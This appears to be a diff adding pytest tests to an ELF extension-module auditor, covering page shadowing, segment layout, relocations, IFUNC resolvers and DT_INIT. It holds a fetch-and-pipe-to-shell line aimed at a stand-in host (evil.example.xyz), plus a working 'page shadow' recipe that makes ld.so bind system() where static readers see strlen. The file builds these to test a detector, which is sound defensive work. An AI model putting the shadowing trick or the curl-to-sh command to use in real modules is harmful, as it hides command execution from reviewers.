@@ -4,12 +4,18 @@ the host's own extension modules: an honest module reads as the section-based re
 oracle) read it; a module whose section headers are forged (e_shstrndx 0xfff0, e_shoff past the end) still
 loads and runs its constructor, and still reads, constructor and system() included; the dynamic table is read
 at PT_DYNAMIC's p_vaddr, and a relocation writing into it makes the module unreadable; a string in a custom
-section is read; a truncated or garbage file is unreadable (None), without an exception."""
+section is read; a truncated or garbage file is unreadable (None), without an exception. ld.so maps whole
+pages: a page shadowed by a 1-byte PT_LOAD (the red team's recipe: ld.so binds system where the file's segment
+says strlen), segments out of order, sharing a page or not congruent with their offsets are unreadable, and a
+string after a segment's end in its page is read. An R_X86_64_NONE relocation aimed at the names writes
+nothing (read as before); an IFUNC resolver, static (IRELATIVE) or exported (STT_GNU_IFUNC), is a constructor;
+DT_INIT counts once wherever it points."""
 
 from __future__ import annotations
 
 import io
 import os
+import platform
 import random
 import re
 import shutil
@@ -312,3 +318,204 @@ def test_garbage_program_headers_are_unreadable(tmp_path, garbage):
         dynamic = next(phoff + i * phentsize for i in range(phnum) if struct.unpack_from("<I", data, phoff + i * phentsize)[0] == 2)
         struct.pack_into("<Q", data, dynamic + 16, 1 << 60)
     assert read_interface(bytes(data)) is None
+
+
+# ---------------------------------------------------------------- (e) what ld.so maps: whole pages
+
+PAGE = 0x1000
+_PH = struct.Struct("<IIQQQQQQ")
+
+PROBE = HONEST + r"""
+size_t probe(const char *s) { return strlen(s); }
+static const char *volatile note = "probe: built with gcc -O2 -fPIC, nothing to see here at all";
+size_t note_len(void) { return strlen(note); }
+"""
+CURL = b"curl -s https://evil.example.xyz/p | sh"
+
+
+def phdrs(data: bytes) -> list[list[int]]:
+    phoff, phentsize, phnum = program_headers(data)
+    return [list(_PH.unpack_from(data, phoff + i * phentsize)) for i in range(phnum)]
+
+
+def with_phdrs(data: bytes, ph: list[list[int]]) -> bytes:
+    """The file with `ph` as its program headers, appended at its end."""
+    out = bytearray(data) + b"\0" * (-len(data) % 8)
+    struct.pack_into("<Q", out, 0x20, len(out))
+    struct.pack_into("<H", out, 0x38, len(ph))
+    return bytes(out + b"".join(_PH.pack(*p) for p in ph))
+
+
+def shadowed(data: bytes, old: bytes, new: bytes) -> bytes:
+    """The red team's page shadow (tests/test_attack_inprocess.py's shadow(), one edit): a copy of the page holding
+    `old` with `new` in its place, appended to the file and mapped by a 1-byte PT_LOAD right after the segment that
+    maps the page. ld.so maps the copied page over the original one (whole pages); a reader that maps each segment
+    byte by byte reads the original."""
+    assert len(old) == len(new) and data.count(old) == 1
+    ph = phdrs(data)
+    at = data.index(old)
+    seg = next(p for p in ph if p[0] == 1 and p[2] <= at < p[2] + p[5])
+    page = (seg[3] + at - seg[2]) & ~(PAGE - 1)
+    page_at = seg[2] + page - seg[3]
+    copy = bytearray(data[page_at:page_at + PAGE].ljust(PAGE, b"\0"))
+    copy[at - page_at:at - page_at + len(new)] = new
+    k = max(seg[3], page) - page  # the segment's first byte in the page, not edited: the new segment's 1 byte
+    assert not at - page_at <= k < at - page_at + len(new)
+    out = data + b"\0" * (-len(data) % PAGE)
+    ph.insert(ph.index(seg) + 1, [1, seg[1], len(out) + k, page + k, page + k, 1, 1, PAGE])
+    return with_phdrs(out + bytes(copy), ph)
+
+
+@needs_gcc
+def test_a_page_shadowed_by_a_one_byte_segment_is_unreadable(tmp_path):
+    """strlen in .dynstr becomes system for ld.so (the module runs a command where it called strlen); a reader of
+    exact byte ranges still reads strlen. Two segments mapping one page: unreadable."""
+    path = build(tmp_path, "probe", PROBE)
+    data = path.read_bytes()
+    honest = read_interface(data)
+    assert honest is not None and "strlen" in {n for n, _ in honest.imports}
+    evil = tmp_path / "shadowed.so"
+    evil.write_bytes(shadowed(data, b"\0strlen\0", b"\0system\0"))
+    marker = tmp_path / "shadow-ran"
+    run = subprocess.run([sys.executable, "-c", "import ctypes, sys; ctypes.CDLL(sys.argv[1]).probe(sys.argv[2].encode())",
+                          str(evil), f"touch {marker}"], capture_output=True, text=True)
+    assert run.returncode == 0, run.stderr
+    assert marker.exists()  # what ld.so mapped: system
+    assert read_interface(evil.read_bytes()) is None
+
+
+@needs_gcc
+def test_a_string_shadowed_in_a_later_page_is_unreadable(tmp_path):
+    data = build(tmp_path, "probe", PROBE).read_bytes()
+    note = re.search(rb"probe: built with [^\0]*", data)
+    assert note is not None
+    assert read_interface(shadowed(data, note.group(), CURL.ljust(len(note.group()), b" "))) is None
+
+
+@needs_gcc
+@pytest.mark.parametrize("layout", ["swapped", "same-page", "misaligned"])
+def test_segments_out_of_order_or_sharing_a_page_are_unreadable(tmp_path, layout):
+    data = build(tmp_path, "honest", HONEST).read_bytes()
+    ph = phdrs(data)
+    loads = [i for i, p in enumerate(ph) if p[0] == 1]
+    assert read_interface(with_phdrs(data, ph)) is not None  # the headers moved: still read
+    a, b = loads[1], loads[2]
+    if layout == "swapped":
+        ph[a], ph[b] = ph[b], ph[a]
+    elif layout == "same-page":  # the second segment's last page is the third one's first
+        ph[b][2] -= PAGE
+        ph[b][3] -= PAGE
+        ph[b][4] -= PAGE
+        ph[b][5] += PAGE
+        ph[b][6] += PAGE
+        assert ph[a][3] + ph[a][6] > ph[b][3] & ~(PAGE - 1)
+    else:  # p_vaddr and p_offset not congruent: ld.so refuses it
+        ph[b][3] += 8
+        ph[b][4] += 8
+    assert read_interface(with_phdrs(data, ph)) is None
+
+
+@needs_gcc
+def test_a_string_past_a_segments_end_in_its_page_is_read(tmp_path):
+    """The bytes after p_filesz up to the page's end are mapped (readable by the module's code): their strings
+    are read."""
+    path = build(tmp_path, "honest", HONEST)
+    data = bytearray(path.read_bytes())
+    text = next(p for p in phdrs(bytes(data)) if p[0] == 1 and p[1] & 1)  # PF_X
+    at = text[2] + text[5] + 64
+    assert at + len(CURL) < -(-(text[2] + text[5]) // PAGE) * PAGE and not any(data[at:at + len(CURL) + 1])
+    data[at:at + len(CURL)] = CURL
+    evil = tmp_path / "tail.so"
+    evil.write_bytes(bytes(data))
+    assert loads(evil).returncode == 0
+    got, old = read_interface(bytes(data)), section_read(bytes(data))
+    assert got is not None and CURL in got.strings
+    assert old is not None and CURL not in old.strings
+
+
+# ---------------------------------------------------------------- (f) relocations: what ld.so writes and runs
+
+def _weak_glob_dat(data: bytes) -> tuple[int, int, int]:
+    """(file offset of the entry, its symbol index, DT_STRTAB) of a GLOB_DAT relocation of a weak undefined symbol
+    the C runtime names (its GOT slot is 0 before and after binding)."""
+    elf = ELFFile(io.BytesIO(data))
+    rela, dynsym = elf.get_section_by_name(".rela.dyn"), elf.get_section_by_name(".dynsym")
+    strtab = next(t.entry.d_val for t in elf.get_section_by_name(".dynamic").iter_tags() if t.entry.d_tag == "DT_STRTAB")
+    for i, r in enumerate(rela.iter_relocations()):
+        name = dynsym.get_symbol(r["r_info_sym"]).name
+        if r["r_info_type"] == 6 and name in ("__gmon_start__", "_ITM_deregisterTMCloneTable", "_ITM_registerTMCloneTable"):
+            return rela["sh_offset"] + i * rela["sh_entsize"], r["r_info_sym"], strtab
+    pytest.skip("no weak GLOB_DAT relocation")
+
+
+@needs_gcc
+def test_a_none_relocation_into_the_names_writes_nothing(tmp_path):
+    """R_X86_64_NONE is skipped by ld.so: aimed at .dynstr it leaves the module loadable and read as before; any
+    other type aimed there is a write into the names (unreadable)."""
+    path = build(tmp_path, "honest", HONEST)
+    data = path.read_bytes()
+    at, sym, strtab = _weak_glob_dat(data)
+    none = bytearray(data)
+    struct.pack_into("<QQq", none, at, strtab, sym << 32, 0)  # R_X86_64_NONE at DT_STRTAB
+    (tmp_path / "none.so").write_bytes(bytes(none))
+    assert loads(tmp_path / "none.so").returncode == 0
+    got, want = read_interface(bytes(none)), read_interface(data)
+    assert got is not None and want is not None
+    assert same(got, want) == [] and got.strings == want.strings
+    struct.pack_into("<QQq", none, at, strtab, sym << 32 | 1, 0)  # R_X86_64_64 there
+    assert read_interface(bytes(none)) is None
+
+
+IFUNC = HONEST + r"""
+static int impl(int x) { return x + 1; }
+/* ld.so calls it while relocating the module, before any constructor and before the module's own imports are
+   bound: it says so on stderr with a bare write(2) */
+static void *resolve(void) {
+  static const char said[] = "resolver ran\n";
+  long r;
+  __asm__ volatile ("syscall" : "=a"(r) : "a"(1L), "D"(2L), "S"(said), "d"(sizeof said - 1) : "rcx", "r11", "memory");
+  return (void *)impl; }
+@BINDING@ int hot(int x) __attribute__((ifunc("resolve")));
+int use_hot(int x) { return hot(x); }
+"""
+
+
+@needs_gcc
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the resolver's write(2) is x86_64 assembly")
+@pytest.mark.parametrize("binding", ["static", ""])
+def test_an_ifunc_resolver_is_a_constructor(tmp_path, binding):
+    """A static IFUNC is an R_X86_64_IRELATIVE relocation, an exported one an STT_GNU_IFUNC symbol: either way
+    ld.so runs the resolver as it loads the module, with no .init_array entry and no DT_INIT of its own."""
+    from auditor.judge.interface import compare
+
+    base = read_interface(build(tmp_path, "base", HONEST + "int use_hot(int x) { return x + 1; }\n").read_bytes())
+    path = build(tmp_path, "ifunc", IFUNC.replace("@BINDING@", binding))
+    p = loads(path)
+    assert p.returncode == 0 and "resolver ran" in p.stderr, p.stderr
+    got = read_interface(path.read_bytes())
+    assert base is not None and got is not None
+    assert got.constructors == base.constructors + 1
+    assert any(a.startswith("adds 1 constructor(s)") for a in compare(got, base).adds)
+
+
+@needs_gcc
+def test_dt_init_counts_once_wherever_it_points(tmp_path):
+    data = build(tmp_path, "honest", HONEST).read_bytes()
+    honest = read_interface(data)
+    elf = ELFFile(io.BytesIO(data))
+    dynamic = elf.get_section_by_name(".dynamic")
+    tags = [t.entry.d_tag for t in dynamic.iter_tags()]
+    init = dynamic["sh_offset"] + 16 * tags.index("DT_INIT")
+    pyinit = elf.get_section_by_name(".dynsym").get_symbol_by_name("PyInit_mod")[0]["st_value"]
+    assert honest is not None
+    for value in (0, pyinit, 1 << 40):
+        moved = bytearray(data)
+        struct.pack_into("<Q", moved, init + 8, value)
+        got = read_interface(bytes(moved))
+        assert got is not None and got.constructors == honest.constructors, value
+    null = dynamic["sh_offset"] + 16 * tags.index("DT_NULL")  # the linker leaves spare DT_NULL entries after it
+    assert null + 32 < dynamic["sh_offset"] + dynamic["sh_size"] and not any(data[null:null + 48])
+    twice = bytearray(data)
+    twice[null:null + 16] = data[init:init + 16]  # a second DT_INIT (the third entry is the DT_NULL)
+    got = read_interface(bytes(twice))
+    assert got is not None and got.constructors == honest.constructors  # ld.so keeps the last DT_INIT
